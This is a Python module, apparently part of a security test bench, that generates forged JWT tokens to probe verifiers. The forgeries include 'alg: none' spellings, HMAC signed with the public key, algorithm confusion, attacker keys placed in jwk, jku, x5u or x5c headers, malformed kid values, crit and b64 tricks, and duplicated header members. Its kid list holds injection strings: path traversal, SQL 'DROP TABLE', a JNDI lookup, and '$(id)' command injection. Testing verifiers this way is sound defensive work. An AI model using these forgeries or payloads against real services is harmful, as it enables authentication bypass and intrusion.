"""Tokens whose header is the trick. The rest is good, and unless keys are the trick, so is the signature."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import zlib
from collections.abc import Callable, Mapping, Sequence
from typing import Any, Final

from cryptography.hazmat.primitives import serialization

from bench.attack.forge import ABSENT, PUBLISHED, Forge, Make, changed
from bench.jose import Held, public_jwk, segment, sign, signing_input, text

_NO_TEXT: Final[tuple[Any, ...]] = (None, True, False, 0, 1, 1.5, [], {}, ["ES256"], {"alg": "ES256"})
_FRAMES: Final = ("{}", "{}", "{}", "{} ", " {}", "{}\0", "\t{}", "{}\n", "{}-", "x{}", "{0}{0}", "\u200b{}")
_HMAC: Final = ("HS256", "HS384", "HS512", "hs256", "HS256 ", "HS1")
_HASHES: Final = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_ALGORITHMS: Final = (
    *(
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES384",
        "ES512",
        "Ed25519",
        "EdDSA",
        "ES256K",
        "ML-DSA-44",
    ),
    *("RSA1_5", "RSA-OAEP", "dir", "A128KW", "ECDH-ES", "RS1", "es256", "Es256", "rs256", "SHA256withRSA", "", "*"),
)
_RSA: Final = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")
_KIDS: Final = (
    *("", " ", "../../../../dev/null", "/dev/null", "..\\..\\key.pem", "' OR 1=1 --", "x'; DROP TABLE keys; --"),
    *("\0", "\n", "es-1\0", "es-1\n", "es-1 ", " es-1", "ES-1", "es-1/", "es-1/../es-1", "es%2d1", "es\u20101"),
    *("\uff45s-1", "es-", "e", "null", "undefined", "0", "*", "${jndi:ldap://127.0.0.1/x}", "{{7*7}}", "$(id)"),
    *("|id", "%00", "k" * 512, "k" * 513),
)
_TYPES: Final = (
    *("logout+jwt", "secevent+jwt", "dpop+jwt", "JOSE", "JOSE+JSON", "entity-statement+jwt"),
    *("token-introspection+jwt", "id_token", "ID", "refresh+jwt", "oauth-authz-req+jwt"),
    *("client-authentication+jwt", "", " ", "at+jwt ", " JWT", "application/", "application/application/at+jwt"),
    *("text/at+jwt", "at+jwt;v=1", "jwt2", "at", "at jwt", "at+jwt\0"),
)
_CRITICAL: Final[tuple[Any, ...]] = (
    *([], ["exp"], ["b64"], ["alg"], ["kid"], ["x"], ["x", "x"], [""], [1], [None], [[]], "b64", "", {}, 0, 1, True),
    *(False, None, ["http://127.0.0.1/x"], {"b64": True}),
)


def _cased(forge: Forge, word: str) -> str:
    return "".join(forge.rng.choice((letter, letter.upper())) for letter in word)


def _sealed(forge: Forge, header: object, held: Held) -> bytes:
    """With a right signature, none, a random one, or without the dot for one."""
    data = signing_input(header, forge.claims())
    return data + forge.rng.choice(
        (b".", b"", b"." + segment(sign(held.algorithm, held.key, data)), b"." + forge.random_segment(1, 96), b"..")
    )


def alg_none(forge: Forge) -> bytes:
    held, word = forge.held(), forge.rng.choice(_FRAMES).format(_cased(forge, "none"))
    header: object = changed(held.header(), {"alg": word, "kid": forge.rng.choice((held.kid, ABSENT))})
    if forge.rng.random() < 0.2:
        header = text(held.header()).replace(b'"' + held.algorithm.encode(), b'"\\u006eone', 1)
    return _sealed(forge, header, held)


def alg_no_text(forge: Forge) -> bytes:
    held = forge.held()
    return _sealed(forge, changed(held.header(), {"alg": forge.rng.choice((*_NO_TEXT, ABSENT))}), held)


def hmac_with_the_public_key(forge: Forge) -> bytes:
    held, alg = forge.rng.choice(forge.keys), forge.rng.choice(_HMAC)
    header = changed(held.header(), {"alg": alg, "kid": forge.rng.choice((held.kid, ABSENT))})
    data, secret = signing_input(header, forge.claims()), forge.rng.choice(_ENCODINGS)(held)
    return data + b"." + segment(hmac.digest(secret, data, _HASHES.get(alg, "sha256")))


def _public(held: Held, kind: serialization.Encoding, of: serialization.PublicFormat) -> bytes:
    return held.key.public_key().public_bytes(kind, of)


def _pem(held: Held) -> bytes:
    return _public(held, serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def _der(held: Held) -> bytes:
    return _public(held, serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)


def _pkcs1(held: Held) -> bytes:
    if held.algorithm not in _RSA:
        return _pem(held)
    return _public(held, serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)


def _number(held: Held) -> bytes:
    """The modulus, or the first coordinate, as the JWK has it."""
    jwk = held.jwk()
    return str(jwk.get("n", jwk.get("x"))).encode()


_ENCODINGS: Final[Sequence[Callable[[Held], bytes]]] = (
    _pem,
    lambda held: _pem(held).rstrip(b"\n"),
    lambda held: _pem(held).replace(b"\n", b"\r\n"),
    lambda held: b"".join(b"  " + line for line in _pem(held).splitlines(keepends=True)),
    lambda held: b"".join(_pem(held).splitlines()[1:-1]),
    _pkcs1,
    _der,
    lambda held: base64.b64encode(_der(held)),
    lambda held: text(held.jwk()),
    lambda held: text(public_jwk(held.key)),
    lambda held: text({"keys": [held.jwk()]}),
    lambda held: json.dumps(held.jwk(), sort_keys=True).encode(),
    _number,
    lambda held: base64.urlsafe_b64decode(_number(held) + b"=="),
    lambda held: held.kid.encode(),
    lambda _: b"",
)
"""Everything that somebody could take for the public key as a secret."""


def another_algorithm_than_the_keys(forge: Forge) -> bytes:
    """Signed with it where such a key can, else with the key that the algorithm is for, else as the named key signs."""
    held = forge.rng.choice(forge.keys)
    # Half of them are algorithms that the issuer may use, with another key.
    names = [name for name, _ in PUBLISHED] if forge.rng.random() < 0.5 else _ALGORITHMS
    alg = forge.rng.choice([name for name in names if name != held.algorithm])
    data = signing_input({**held.header(), "alg": alg}, forge.claims())
    if held.algorithm in _RSA and alg in _RSA:
        return data + b"." + segment(sign(alg, held.key, data))
    fit = [other for other in forge.keys if other.algorithm == alg]
    signer = forge.rng.choice(fit) if fit and forge.rng.random() < 0.5 else held
    return data + b"." + segment(signer.sign(data))


def unknown_kid(forge: Forge) -> bytes:
    known = {kid for _, kid in PUBLISHED}
    kid: object = forge.rng.choice((*_KIDS, forge.trap, f"{forge.rng.getrandbits(96):x}", "k" * 5000))
    assert kid not in known
    return forge.with_header(kid=kid)


def kid_of_another_kind(forge: Forge) -> bytes:
    """Or none at all, where two keys fit."""
    if forge.rng.random() < 0.2:
        return forge.with_header(forge.keys[forge.rng.randrange(2)], kid=ABSENT)
    return forge.with_header(kid=forge.rng.choice((*_NO_TEXT, ["es-1"], {"kid": "es-1"}, 0xE5)))


def a_key_in_the_header(forge: Forge) -> bytes:
    """Signed with that key, or with a right one: the header alone must do."""
    held = forge.held()
    forged = forge.attackers(held)
    kid = forge.rng.choice((held.kid, "attacker", ABSENT))
    address = forge.rng.choice(
        (forge.trap, f"{forge.trap}/keys.json", f"{forge.issuer}/keys", "file:///dev/null", "", None)
    )
    named: dict[str, Any] = forge.rng.choice(
        (
            {"jwk": public_jwk(forged.key)},
            {"jwk": {**public_jwk(forged.key), "kid": held.kid}},
            {"jwk": forge.rng.choice(_NO_TEXT)},
            {"jku": address},
            {"x5u": address},
            {"jku": address, "jwk": public_jwk(forged.key), "x5u": address},
        )
    )
    signer = forge.rng.choice((forged, held))
    return forge.token(None, changed(held.header(), {"kid": kid, **named}), signer)


def a_certificate_in_the_header(forge: Forge) -> bytes:
    """Some IdPs send one, so that alone refuses nothing; the key in it must not be used."""
    held = forge.held()
    forged = forge.attackers(held)
    der = _der(forged)
    print_of = segment(hashlib.sha1(der, usedforsecurity=False).digest()).decode()
    named = forge.rng.choice(({"x5c": [base64.b64encode(der).decode()]}, {"x5t": print_of}, {"x5t#S256": print_of}))
    kid = forge.rng.choice((held.kid, print_of, "attacker"))
    return forge.token(None, {**held.header(), **named, "kid": kid}, forged)


def crit(forge: Forge) -> bytes:
    named: dict[str, Any] = {"x": 1} if forge.rng.random() < 0.5 else {}
    return forge.with_header(crit=forge.rng.choice(_CRITICAL), **named)


def b64(forge: Forge) -> bytes:
    """RFC 7797, with the payload as it is or encoded once more."""
    held = forge.held()
    header = {**held.header(), "b64": forge.rng.choice((True, False, None, "false", 0))}
    if forge.rng.random() < 0.5:
        header["crit"] = ["b64"]
    if forge.rng.random() < 0.5:
        return forge.token(None, header, held)
    data = segment(text(header)) + b"." + segment(segment(text(forge.claims())))
    return data + b"." + segment(held.sign(data))


def compressed(forge: Forge) -> bytes:
    held = forge.held()
    claims = text(forge.claims(pad="x" * forge.rng.choice((0, 1000, 100_000))))
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = forge.rng.choice((squeezed.compress(claims) + squeezed.flush(), text(forge.claims())))
    name, value = forge.rng.choice((("zip", "DEF"), ("zip", "GZ"), ("zip", None), ("enc", "A256GCM"), ("enc", "")))
    return forge.token(payload, {**held.header(), name: value}, held)


def another_type(forge: Forge) -> bytes:
    return forge.with_header(typ=forge.rng.choice((*_TYPES, f"{forge.rng.getrandbits(32):x}", *_NO_TEXT)))


def doubled(forge: Forge) -> bytes:
    """A member twice, alike or not, spelled alike or with an escape."""
    held = forge.held()
    members = [text({name: value})[1:-1] for name, value in {**held.header(), "x": 1}.items()]
    name = forge.rng.choice(("alg", "kid", "typ", "x"))
    value = forge.rng.choice((held.header().get(name, 1), "none", "HS256", "es-1", "logout+jwt", None))
    copy = text({name: value})[1:-1]
    if forge.rng.random() < 0.5:
        at = forge.rng.randrange(len(name))
        copy = copy.replace(name.encode(), f"{name[:at]}\\u{ord(name[at]):04x}{name[at + 1 :]}".encode(), 1)
    members.insert(forge.rng.randint(0, len(members)), copy)
    return forge.token(None, b"{" + b",".join(members) + b"}", held)


FAMILIES: Final[Mapping[str, Make]] = {
    "J-01 alg: none in many spellings": alg_none,
    "J-01 alg is no text, or missing": alg_no_text,
    "J-02 HMAC with the public key": hmac_with_the_public_key,
    "J-03 another algorithm than the key's": another_algorithm_than_the_keys,
    "J-04 jwk, jku or x5u": a_key_in_the_header,
    "J-04 x5c or x5t of the attacker's key": a_certificate_in_the_header,
    "J-05 a kid that nobody has": unknown_kid,
    "J-05 a kid that is no text, or missing": kid_of_another_kind,
    "J-08 crit": crit,
    "J-08 b64": b64,
    "J-09 a member of the header twice": doubled,
    "J-11 zip or enc": compressed,
    "J-20 another typ": another_type,
}
